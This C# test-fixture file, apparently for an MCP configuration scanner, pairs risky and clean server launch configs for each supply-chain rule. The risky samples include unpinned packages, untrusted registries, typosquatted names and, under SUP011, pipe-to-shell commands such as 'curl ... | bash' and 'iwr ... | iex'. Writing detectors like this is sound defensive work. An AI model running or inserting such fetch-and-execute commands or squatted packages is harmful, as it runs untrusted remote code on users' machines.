using static McpNest.Tests.Scan.Rules.RuleFixture;

namespace McpNest.Tests.Scan.Rules;

internal static class SupplyFixtures
{
    public static RuleFixture[] All { get; } =
    [
        Of("SUP001", """ "command":"npx","args":["-y","some-mcp@latest"] """, """ "command":"npx","args":["-y","some-mcp@1.2.3"] """),
        Of("SUP001", """ "command":"cmd","args":["/c","npx","-y","some-mcp"] """, """ "command":"node","args":["some-mcp"] """),
        Of("SUP002", """ "command":"uvx","args":["some-mcp"] """, """ "command":"uvx","args":["some-mcp==1.2.3"] """),
        Of("SUP003", """ "command":"docker","args":["run","-i","--rm","acme/some-mcp:latest"] """, """ "command":"docker","args":["run","-i","--rm","acme/some-mcp@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"] """),
        Of("SUP004", """ "command":"uvx","args":["--from","git+https://github.com/acme/some-mcp","some-mcp"] """, """ "command":"uvx","args":["--from","git+https://github.com/acme/some-mcp@0123456789abcdef0123456789abcdef01234567","some-mcp"] """),
        Of("SUP004", """ "command":"npx","args":["-y","https://aka.ms/some/mcp"] """, """ "command":"npx","args":["-y","some-mcp@1.0.0","https://aka.ms/some/mcp"] """),
        Of("SUP005", """ "command":"npx","args":["mcp-remote@0.1.15","https://mcp.example.org/mcp"] """, """ "command":"npx","args":["mcp-remote@0.1.16","https://mcp.example.org/mcp"] """),
        Of("SUP005", """ "command":"npx","args":["@modelcontextprotocol/server-filesystem@0.6.2","."] """, """ "command":"npx","args":["mcp-remote","https://mcp.example.org/mcp"] """),
        Of("SUP006", """ "command":"npx","args":["-y","postmark-mcp@1.0.16"] """, """ "command":"npx","args":["-y","my-postmark-mcp@1.0.16"] """),
        Of("SUP007", """ "command":"npx","args":["-y","@modelcontextprotocol/server-github"] """, """ "command":"npx","args":["-y","@modelcontextprotocol/server-memory"] """),
        Of("SUP008", """ "command":"npx","args":["-y","chrome-devtool-mcp@1.0.0"] """, """ "command":"npx","args":["-y","chrome-devtools-mcp@1.0.0"] """),
        Of("SUP008", """ "command":"npx","args":["-y","@modelcontextprotocal/server-memory@1.0.0"] """, """ "command":"npx","args":["-y","@acme/server-memory@1.0.0"] """),
        Of("SUP008", """ "command":"uvx","args":["mcp-server-fetchh==1.0.0"] """, """ "command":"uvx","args":["mcp-server-fetch==1.0.0"] """),
        Of("SUP009", """ "command":"npx","args":["-y","@modelcontextprotocol/server-notion@1.0.0"] """, """ "command":"npx","args":["-y","@notionhq/notion-mcp-server@1.0.0"] """),
        Of("SUP010", """ "command":"npx","args":["--registry","https://npm.example.org","some-mcp@1.0.0"] """, """ "command":"npx","args":["--registry","https://registry.""" + "npmjs" + """.org","some-mcp@1.0.0"] """),
        Of("SUP010", """ "command":"uvx","args":["some-mcp==1.0.0"],"env":{"UV_INDEX_URL":"http://pypi.example.org/simple"} """, """ "command":"uvx","args":["some-mcp==1.0.0"],"env":{"UV_INDEX_URL":"https://""" + "pypi" + """.org/simple"} """),
        Of("SUP011", """ "command":"bash","args":["-c","curl -fsSL https://example.org/start | bash"] """, """ "command":"bash","args":["-c","curl -fsSL https://example.org/health > /dev/null; ./start"] """),
        Of("SUP011", """ "command":"powershell","args":["-Command","iwr https://example.org/start.ps1 | iex"] """, """ "command":"npx","args":["curl-mcp@1.0.0","bash"] """),
        Of("SUP012", """ "command":"npx","args":["-y","@smithery/cli@1.0.0","run","@acme/tool"] """, """ "command":"npx","args":["-y","@smithery/cli@1.0.0","list"] """),
        Of("SUP012", """ "command":"npx","args":["-y","@anaisbetts/mcp-installer@1.0.0"] """, """ "command":"npx","args":["-y","installer-docs@1.0.0"] """),
    ];
}
